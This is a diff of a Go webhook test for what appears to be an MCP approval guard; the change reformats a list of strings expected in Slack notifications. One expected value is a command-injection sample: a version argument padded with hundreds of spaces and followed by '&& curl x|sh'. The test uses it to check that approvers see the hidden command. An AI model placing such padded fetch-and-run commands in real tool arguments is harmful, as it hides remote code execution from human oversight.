@@ -73,8 +73,10 @@ func TestWebhooks(t *testing.T) {
 	require.Contains(t, bodies[1]["text"], "agent-&lt;1&gt;")
 	slack, err := json.Marshal(bodies[1]["blocks"])
 	require.NoError(t, err)
-	for _, want := range []string{"deploys need a release manager", "params.arguments.version = 1.4.2␠×600&& curl x|sh",
-		"params.Arguments.env = dev", "tools:8080/mcp", "sess-1", "sha256:abc", "https://idp.test"} {
+	for _, want := range []string{
+		"deploys need a release manager", "params.arguments.version = 1.4.2␠×600&& curl x|sh",
+		"params.Arguments.env = dev", "tools:8080/mcp", "sess-1", "sha256:abc", "https://idp.test",
+	} {
 		require.Contains(t, strings.ReplaceAll(string(slack), `\u0026`, "&"), slackEscape(want))
 	}
 	require.InDelta(t, 2.0, counter(t, reg, "mcpguard_approvals_notifications_total", "sent"), 1e-9)
